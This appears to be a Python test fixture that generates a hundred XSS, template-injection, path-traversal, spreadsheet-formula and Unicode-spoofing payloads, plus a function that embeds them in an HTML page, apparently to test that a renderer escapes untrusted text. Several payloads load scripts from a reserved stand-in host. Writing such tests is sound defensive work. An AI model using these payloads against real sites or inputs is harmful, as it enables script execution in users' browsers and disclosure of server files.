"""A hundred texts that would run, load or break out if anything took them for more than text; pages full of them."""

from itertools import cycle, islice

OUT = "http://203.0.113.7:9"  # TEST-NET-3: nobody answers there, and nobody may ask
RUN = "window.top.ran=1;window.ran=1;alert(1)"
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src={OUT}/a.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={OUT}/a.png>",
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src={OUT}/></iframe>",
    f"<object data={OUT}/a.swf></object>",
    f"<embed src={OUT}/a.swf>",
    f"<applet code={OUT}/a.class></applet>",
    f'<meta http-equiv=refresh content="0;url={OUT}/">',
    f"<base href={OUT}/>",
    f"<link rel=stylesheet href={OUT}/a.css>",
    f"<link rel=prefetch href={OUT}/a>",
    f"<style>@import url({OUT}/b.css); body {{ background: url({OUT}/c.png) }}</style>",
    f'<p style="background:url({OUT}/d.png);position:fixed;inset:0;z-index:9">x</p>',
    f'<form action={OUT}/><input name=a autofocus onfocus="{RUN}"><button>x</button></form>',
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f"<a href={OUT}/ ping={OUT}/p>x</a>",
    f'<body onload="{RUN}" background={OUT}/e.png>',
    f'<video src={OUT}/a.mp4 onerror="{RUN}" autoplay></video>',
    f'<audio src={OUT}/a.mp3 onerror="{RUN}"></audio>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<input type=image src={OUT}/f.png onerror="{RUN}">',
    f"<table background={OUT}/g.png><tr><td background={OUT}/h.png>x</td></tr></table>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<p id=cell class=asked onclick="{RUN}">false cell</p>',
    f'<dialog open onclose="{RUN}">x</dialog>',
    f"<portal src={OUT}/></portal>",
)
TEXTS = (
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
    f"</td></tr></table><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"javascript:{RUN}",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;&#x3c;script&#x3e;",
    '=HYPERLINK("http://203.0.113.7:9/","x")',
    "..//..//etc/passwd",
    "%3Cscript%3E%00",
    "\u202e⁦txt.exe⁩",
    "﷽" * 8,
    "Z̷̢͠a̶͝l̸go",
)


def payloads(count: int = 100) -> list[str]:
    """So many texts, no two alike."""
    kinds = cycle((*TEXTS, *ELEMENTS))
    return [f"{text}〈{number}〉" for number, text in enumerate(islice(kinds, count))]


def as_text(text: str) -> str:
    """The text as a page prints it, every character of it."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hostile_page(page: str) -> str:
    """A page with all elements behind what it has, all texts printed in its prose, and cells that try their own."""
    printed = "".join(f"<p>{as_text(text)}</p>" for text in payloads())
    handlers = f'onclick="{RUN}" onmouseover="{RUN}" style="background:url({OUT}/z.png)" id=cell class=asked '
    body = page.replace("<td", f"<td {handlers}").replace("</body>", printed + "".join(ELEMENTS) + "</body>")
    return body.replace("</head>", f"<base href={OUT}/><script>{RUN}</script></head>")
